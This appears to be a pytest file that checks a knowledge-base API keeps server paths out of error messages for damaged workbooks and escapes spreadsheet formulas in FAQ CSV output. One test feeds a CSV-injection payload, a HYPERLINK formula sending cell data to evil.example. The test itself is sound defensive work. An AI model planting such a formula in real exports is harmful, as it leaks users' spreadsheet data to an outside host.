"""What a caller reads about a failure names no server path: a damaged workbook's reason in the ingest
reply, the build job and the quality report; and what the API writes into faq.csv runs no formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from lore.api import create_app
from lore.config import load_settings
from lore.engine import Lore
from lore.errors import LoadError
from lore.ingest.loaders import load_file
from lore.scenario.config import Scenarios
from lore.scenario.faq import read_faq
from tests.api.conftest import auth, build_and_wait


def _workbook() -> bytes:
    wb = openpyxl.Workbook()
    wb.active.append(["item", "price"])
    wb.active.append(["tea", 3])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _replace_part(package: bytes, part: str, data: bytes) -> bytes:
    src, out = zipfile.ZipFile(io.BytesIO(package)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            dst.writestr(name, data if name == part else src.read(name))
    return out.getvalue()


def bad_styles_xlsx() -> bytes:
    """Well-formed XML with a value openpyxl refuses: its ValueError names the workbook's full path."""
    styles = b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    styles += b'<fills count="1"><fill><patternFill patternType="bogus"/></fill></fills></styleSheet>'
    return _replace_part(_workbook(), "xl/styles.xml", styles)


def future_zip_xlsx() -> bytes:
    """A package whose directory asks for a ZIP version Python cannot read (NotImplementedError)."""
    data = bytearray(_workbook())
    at = data.index(b"PK\x01\x02")
    data[at + 6 : at + 8] = (127).to_bytes(2, "little")  # "version needed to extract": 12.7
    return bytes(data)


@pytest.fixture()
def admin(tmp_path: Path) -> Iterator[tuple[TestClient, Lore]]:
    lore = Lore(load_settings(home=tmp_path / "secret-home", api={"rate_limit_per_minute": 0}))
    _, secret = lore.catalog.create_api_key("default", ["admin"])
    with TestClient(create_app(lore), headers=auth(secret)) as client:
        yield client, lore
    lore.close()


def _upload(client: TestClient, kb: str) -> None:
    files = [
        ("styles.xlsx", bad_styles_xlsx()),
        ("zipver.xlsx", future_zip_xlsx()),
        ("ok.md", b"# Tea\n\nTea costs three coins.\n"),
    ]
    assert client.post("/api/kbs", json={"name": kb}).status_code == 201
    r = client.post(f"/api/kbs/{kb}/files", files=[("file", f) for f in files])
    assert r.status_code == 201, r.text


def test_damaged_workbook_reasons_name_no_server_path(admin: tuple[TestClient, Lore]) -> None:
    client, lore = admin
    home = str(lore.settings.home)
    _upload(client, "plain")
    r = client.post("/api/kbs/plain/ingest", json={})
    assert r.status_code == 200, r.text
    files = {f["name"]: f for f in r.json()["files"]}
    assert files["ok.md"]["status"] == "ingested"
    assert files["styles.xlsx"]["status"] == files["zipver.xlsx"]["status"] == "failed"
    assert "not a valid Excel workbook" in files["styles.xlsx"]["error"]
    assert "damaged" in files["zipver.xlsx"]["error"]  # a damaged file fails alone: the batch goes on
    assert home not in r.text and "secret-home" not in r.text, r.text

    _upload(client, "versioned")
    job = build_and_wait(client, "versioned", {"activate": True})
    assert job["status"] == "succeeded", job
    report = client.get("/api/kbs/versioned/versions/1/report")
    assert report.status_code == 200
    problems = {p["file"]: p["reason"] for p in report.json()["problems"]}
    assert set(problems) == {"styles.xlsx", "zipver.xlsx"}
    for text in (json.dumps(job), report.text):
        assert home not in text and "secret-home" not in text, text


def test_loader_reasons_show_the_file_name_never_its_folder(tmp_path: Path) -> None:
    path = tmp_path / "deep" / "folder" / "book.xlsx"
    path.parent.mkdir(parents=True)
    for data in (bad_styles_xlsx(), future_zip_xlsx(), b"not a zip at all"):
        path.write_bytes(data)
        with pytest.raises(LoadError) as caught:
            load_file(path)
        assert str(tmp_path) not in caught.value.reason and "/deep/" not in caught.value.reason


@pytest.fixture()
def hr(tmp_path: Path) -> Iterator[tuple[TestClient, Lore, str]]:
    from tests.scenario.conftest import copy_scenarios, scenario_lore

    folder = copy_scenarios(tmp_path / "scenarios")
    lore = scenario_lore(tmp_path / "home", folder, api={"rate_limit_per_minute": 0})
    lore.create_kb(Scenarios(folder).get("hr").kb_name, owner_tenant="bluefin")
    _, secret = lore.catalog.create_api_key("bluefin", ["admin"])
    with TestClient(create_app(lore), headers=auth(secret)) as client:
        yield client, lore, secret
    lore.close()


def test_faq_rows_written_by_the_api_hold_no_spreadsheet_formula(hr: tuple[TestClient, Lore, str]) -> None:
    client, lore, _ = hr
    rev = client.get("/api/scenarios/hr/faq").json()["revision"]
    question = '=HYPERLINK("http://evil.example/?d="&A1,"Where is the parking?")'
    row = {"question": question, "answer": "-2 floors, @ the back; +1 level for guests", "source": "leave"}
    made = client.post("/api/scenarios/hr/faq", json={"revision": rev, **row})
    assert made.status_code == 201, made.text
    assert made.json()["question"] == question  # the text as written, not as escaped
    rev = client.get("/api/scenarios/hr/faq").json()["revision"]
    edited = client.put(
        f"/api/scenarios/hr/faq/{made.json()['index']}", json={"revision": rev, "answer": "=1+1"}
    )
    assert edited.status_code == 200, edited.text

    sc = Scenarios(lore.settings.scenario.scenarios_dir).get("hr")
    cells = [c for record in csv.reader(io.StringIO(sc.faq_path.read_text("utf-8"))) for c in record]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert "'" + question in cells and "'=1+1" in cells
    rows, _ = read_faq(sc.faq_path, sc)
    indexed = next(r for r in rows if "HYPERLINK" in r.question)
    assert (indexed.question, indexed.answer) == (question, "=1+1")  # indexed as the editor wrote it
